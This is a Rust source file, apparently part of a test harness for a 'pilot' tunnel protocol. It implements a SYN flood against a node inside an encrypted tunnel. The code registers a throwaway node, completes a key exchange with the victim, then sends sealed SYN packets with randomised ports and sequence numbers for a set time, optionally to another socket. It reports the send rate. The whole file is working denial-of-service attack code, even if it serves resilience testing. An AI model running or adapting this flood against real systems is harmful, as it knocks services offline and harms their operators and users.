//! Connection requests inside a tunnel: a registered node that agrees on keys and then does nothing else.

use crate::Outcome;
use crate::options::{Options, Random};
use pilot_proto::crypto::{Identity, TunnelSecret};
use pilot_proto::registry::challenge;
use pilot_proto::tunnel::session::Session;
use pilot_proto::wire::frame::{self, Frame, PILS_HEADER_LEN};
use pilot_proto::wire::packet::{Header, flags, protocol};
use pilot_proto::{Addr, NodeId};
use serde_json::json;
use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

/// The clock is read once per so many datagrams.
const ROUND: usize = 64;
/// Tries for the key exchange.
const TRIES: u32 = 20;

/// Agrees with the node `--node` at `--victim` and sends its SYNs to `--to`, which may be another socket.
pub async fn flood(options: &Options) -> Outcome {
    let (victim, to): (SocketAddr, SocketAddr) = (options.get("victim")?, options.get("to")?);
    let peer: NodeId = options.get("node")?;
    let limit = options.secs()?;
    let seed: u8 = options.or("seed", 77)?;
    let identity = Identity::from_seed([seed; 32]).ok_or("no key")?;
    let socket = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
    socket.set_read_timeout(Some(Duration::from_millis(200))).map_err(|e| e.to_string())?;
    let key = identity.public_key_base64();
    let listen = format!("0.0.0.0:{}", socket.local_addr().map_err(|e| e.to_string())?.port());
    let request = json!({
        "type": "register", "listen_addr": listen, "public_key": key,
        "signature": identity.sign_text(&challenge::register(&listen, &key)),
    });
    let answer = pilot::registry_call(&options.get::<String>("registry")?, None, request)
        .await
        .map_err(|e| e.to_string())?;
    let own = answer["node_id"].as_u64().and_then(|id| NodeId::try_from(id).ok()).ok_or("no node id")?;

    let secret = TunnelSecret::from_bytes(&[seed; 32]).ok_or("no secret")?;
    let signature = identity.sign(&frame::pila_signed(own, secret.public_key()));
    let pila = frame::pila(own, secret.public_key(), identity.public_key(), &signature);
    let theirs = agree(&socket, victim, &pila, peer)?;
    let session_key = secret.session_key(&theirs).ok_or("low order key")?;
    let mut session = Session::new(session_key, theirs, true, [seed; 4], Instant::now());

    let mut random = Random::new(0x59);
    let (mut sent, mut refused) = (0u64, 0u64);
    let began = Instant::now();
    while began.elapsed() < limit {
        for _ in 0..ROUND {
            let header = Header {
                flags: flags::SYN,
                protocol: protocol::STREAM,
                src: Addr::backbone(own),
                dst: Addr::backbone(peer),
                src_port: random.next() as u16 | 1,
                dst_port: 7,
                seq: random.next() as u32,
                ack: 0,
                window: 512,
            };
            let mut out = vec![0; PILS_HEADER_LEN];
            header.emit(&[], &mut out).map_err(|e| e.to_string())?;
            session.seal(own, &mut out, 0);
            match socket.send_to(&out, to) {
                Ok(_) => sent += 1,
                Err(_) => refused += 1,
            }
        }
    }
    let secs = began.elapsed().as_secs_f64();
    Ok(json!({"sent": sent, "refused": refused, "per_second": sent as f64 / secs, "node": own}))
}

/// The victim's tunnel key.
fn agree(socket: &UdpSocket, victim: SocketAddr, pila: &[u8], peer: NodeId) -> Result<[u8; 32], String> {
    let mut buf = [0; 2048];
    for _ in 0..TRIES {
        socket.send_to(pila, victim).map_err(|e| e.to_string())?;
        while let Ok((n, from)) = socket.recv_from(&mut buf) {
            if let Ok(Frame::Pila(answer)) = Frame::parse(&buf[..n])
                && from == victim
                && answer.node == peer
            {
                return Ok(*answer.x25519);
            }
        }
    }
    Err(format!("node {peer} at {victim} does not answer key exchanges"))
}
